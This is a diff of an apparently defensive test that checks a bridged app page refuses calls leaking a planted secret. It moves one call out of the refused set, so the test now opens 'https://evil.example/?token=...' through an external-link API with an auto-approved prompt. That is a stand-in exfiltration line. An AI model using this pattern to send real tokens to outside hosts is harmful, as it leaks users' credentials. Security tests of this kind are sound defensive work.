@@ -204,10 +204,11 @@ async def _be_refused(page: Bridged) -> str:
     secret = PLANTED["denied call"]
     told = [
         await page("lime.events.emit", topic="t", payload={"token": secret}),
-        await page("lime.ui.openExternal", url=f"https://evil.example/?token={secret}"),
         await page("lime.storage.set", key=5, value=secret),
         await page("lime.nowhere.send", token=secret),
     ]
+    # The window asks about a link, and this one says yes to all: what it opens is told nowhere.
+    await page("lime.ui.openExternal", url=f"https://evil.example/?token={secret}")
     wanted = {"key": "templates.brand.note", "value": PLANTED["declined call"]}
     assert await page.code("lime.settings.set", **wanted) == "APP_E010"
     asked = {each.action: each.question_id for each in page.approvals.queue.open}
